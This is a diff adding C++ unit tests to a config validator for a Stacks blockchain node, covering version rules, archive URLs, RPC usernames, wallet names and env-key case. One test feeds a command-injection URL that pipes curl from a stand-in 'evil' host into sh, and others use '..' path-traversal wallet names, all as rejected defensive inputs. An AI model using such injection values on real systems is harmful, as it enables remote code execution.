@@ -184,6 +184,26 @@ TEST(LoadVersion, ExactTagOrLatest) {
   EXPECT_EQ(about(load_text(with("STACKS_VERSION=newest\n")), "STACKS_VERSION").size(), 1u);
 }
 
+TEST(LoadVersion, ReleaseCandidatesOnlyOnTestnetOrWhenAskedFor) {
+  auto main = error_about(load_text(with("STACKS_VERSION=4.0.3-rc1\n")), "STACKS_VERSION");
+  EXPECT_THAT(main.message, HasSubstr("STACKS_ALLOW_RELEASE_CANDIDATE=true"));
+  EXPECT_EQ(valid_config(with("STACKS_VERSION=4.0.3-rc1\nSTACKS_ALLOW_RELEASE_CANDIDATE=true\n"))
+                .stacks_version,
+            "4.0.3-rc1");
+  EXPECT_FALSE(load_text(with("STACKS_VERSION=4.0.3-rc2\nSTACKS_NETWORK=testnet\n"))
+                   .diagnostics.has_errors());
+  // A candidate is older than its release, so the floor still holds.
+  EXPECT_EQ(
+      about(load_text(with("STACKS_VERSION=4.0.1-rc1\nSTACKS_ALLOW_RELEASE_CANDIDATE=true\n")),
+            "STACKS_VERSION")
+          .size(),
+      1u);
+  EXPECT_EQ(
+      about(load_text(with("STACKS_VERSION=4.0.3-rc\nSTACKS_NETWORK=testnet\n")), "STACKS_VERSION")
+          .size(),
+      1u);
+}
+
 TEST(LoadVersion, MainnetFloorIsEpoch40) {
   for (const char* old : {"4.0.0", "3.4.0.0.4"}) {
     auto e =
@@ -214,6 +234,20 @@ TEST(LoadChain, BootstrapNodesAreCheckedOneByOne) {
       "1651f7f1d566532c804da506c117bbf79ad62eea81213ba58f8808b4d9504ad@testnet.stacks.co:20444,"
       "nonsense\n"));
   EXPECT_EQ(about(r, "STACKS_BOOTSTRAP_NODE").size(), 2u);
+}
+
+TEST(LoadChain, ArchiveUrlIsStrict) {
+  // Only ever data for the agent, but a value no URL parser agrees on is a typo or worse.
+  for (const char* bad : {"https://x/a.tar.gz;curl${IFS}evil|sh;INJECTED", "https://x/a b.tar.zst",
+                          "https://x/a.tar.gz#frag", "https://user:pw@x/a", "https:///a.tar.gz",
+                          "https://x/a<b>.tar.gz", "https://x/a\\b"}) {
+    auto r = load_text(with(std::string("STACKS_CHAINSTATE_ARCHIVE='") + bad + "'\n"));
+    EXPECT_EQ(about(r, "STACKS_CHAINSTATE_ARCHIVE").size(), 1u) << bad;
+  }
+  EXPECT_FALSE(
+      load_text(with("STACKS_CHAINSTATE_ARCHIVE=https://archive.hiro.so/mainnet/"
+                     "stacks-blockchain/mainnet-stacks-blockchain-latest.tar.zst?x=1%20\n"))
+          .diagnostics.has_errors());
 }
 
 TEST(LoadChain, ArchiveUrlAndChecksum) {
@@ -462,6 +496,16 @@ TEST(LoadMiner, NeedsItsOwnBitcoindWithCredentialsAndWallet) {
   EXPECT_EQ(c.bitcoin.max_rbf, 150u);
 }
 
+TEST(LoadBitcoin, RpcUsernameMustWorkInBasicAuth) {
+  // HTTP basic auth splits user:password at the first colon; blanks are a typo.
+  for (const char* bad : {"a:b", "\"  \"", "\"u v\""}) {
+    auto r = load_text(with(std::string("BITCOIN_RPC_USERNAME=") + bad + "\n"));
+    EXPECT_EQ(about(r, "BITCOIN_RPC_USERNAME").size(), 1u) << bad;
+  }
+  EXPECT_EQ(valid_config(with("BITCOIN_RPC_USERNAME=stx_rpc-1\n")).bitcoin.rpc_username,
+            "stx_rpc-1");
+}
+
 TEST(LoadMiner, RewardRecipientIsAStacksPrincipalOfTheNetwork) {
   const std::string miner =
       "STACKS_NODE_CONFIGURATION=miner\nBITCOIN_PEER_HOST=10.0.1.5\nBITCOIN_RPC_USERNAME=u\n"
@@ -490,6 +534,12 @@ TEST(LoadMiner, RewardRecipientIsAStacksPrincipalOfTheNetwork) {
 TEST(LoadMiner, WalletNameCharset) {
   auto r = load_text(with("BITCOIN_WALLET_NAME=\"my wallet\"\n"));
   EXPECT_THAT(error_about(r, "BITCOIN_WALLET_NAME").message, HasSubstr(". _ - /"));
+  // stacks-core 4.0.2 validate_wallet_name_is_path_safe also refuses "..".
+  for (const char* dots : {"a..b", "..", "../w", "w/.."}) {
+    auto up = load_text(with(std::string("BITCOIN_WALLET_NAME=") + dots + "\n"));
+    EXPECT_THAT(error_about(up, "BITCOIN_WALLET_NAME").message, HasSubstr("\"..\""));
+  }
+  EXPECT_FALSE(load_text(with("BITCOIN_WALLET_NAME=a.b/c.d\n")).diagnostics.has_errors());
   EXPECT_EQ(about(load_text(with("BITCOIN_MAX_RBF=99\n")), "BITCOIN_MAX_RBF").size(), 1u);
 }
 
@@ -511,6 +561,14 @@ TEST(LoadUnknown, EnvironmentTyposAndBlueprintDebugKey) {
   EXPECT_EQ(about(r, "DEBUG_KEY_NAME", Severity::warning).size(), 1u);
   EXPECT_EQ(about(r, "STACKS_NETWROK", Severity::warning).size(), 1u);
   EXPECT_TRUE(about(r, "STACKS_LOG_DEBUG", Severity::warning).empty());
+}
+
+TEST(LoadUnknown, AKnownNameInTheWrongCaseIsAnError) {
+  // Ignoring "stacks_network=testnet" would deploy mainnet instead.
+  auto r = load_text(with("stacks_network=testnet\n"));
+  auto e = error_about(r, "stacks_network");
+  EXPECT_THAT(e.message, HasSubstr("STACKS_NETWORK"));
+  EXPECT_THAT(e.message, HasSubstr("case"));
 }
 
 TEST(LoadUnknown, DuplicatesAreReported) {
